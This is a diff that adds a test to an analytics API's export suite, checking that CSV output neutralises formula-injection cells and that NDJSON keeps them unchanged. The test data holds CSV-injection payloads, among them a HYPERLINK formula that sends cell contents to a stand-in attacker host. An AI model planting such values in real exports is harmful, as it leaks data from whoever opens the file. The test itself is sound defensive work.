@@ -68,6 +68,38 @@ describeEachMode('GET /v1/export', (mode) => {
     expect(csv.text).toContain(`${new Date(day + 2 * HOUR_MS).toISOString()},default,click,"b","/a,""b""\nc",2,"x1"\r\n`);
   });
 
+  it('neutralises in CSV a cell a spreadsheet would run as a formula (prefix \'), and keeps NDJSON verbatim', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const time = new Date(day + 3 * HOUR_MS).toISOString();
+    const res = await t.http.post('/v1/events').send({
+      events: formulas.map((f, i) => ({ user: f, kind: 'view', time, page: f, id: `${f}${i}` })),
+    });
+    expect(res.body).toMatchObject({ accepted: formulas.length, rejected: [] });
+    const range = { from: isoDate(day), to: isoDate(day + DAY_MS) };
+
+    const csv = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
+    expect(csv.status).toBe(200);
+    const quoted = (v: string) => `"'${v.replaceAll('"', '""')}"`;
+    for (const [i, f] of formulas.entries()) {
+      expect(csv.text).toContain(`${time},default,view,${quoted(f)},${quoted(f)},1,${quoted(`${f}${i}`)}\r\n`);
+    }
+    // Only the first character counts: the same characters later in a value change nothing.
+    await t.http.post('/v1/events').send({ events: [{ user: 'a=b', kind: 'view', time, page: '/x-y@z' }] });
+    const again = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
+    expect(again.text).toContain(`${time},default,view,"a=b","/x-y@z",1,\r\n`);
+
+    const nd = await t.http.get('/v1/export').query(range).buffer(true).parse((r, done) => {
+      let text = '';
+      r.on('data', (c: Buffer) => (text += c.toString()));
+      r.on('end', () => done(null, text));
+    });
+    const users = (nd.body as string)
+      .trimEnd()
+      .split('\n')
+      .map((l) => (JSON.parse(l) as { user: string }).user);
+    expect(users).toEqual(expect.arrayContaining(formulas));
+  });
+
   it('refuses a bad range with 400', async () => {
     const res = await t.http.get('/v1/export').query({ from: isoDate(day + DAY_MS), to: isoDate(day) });
     expect(res.status).toBe(400);
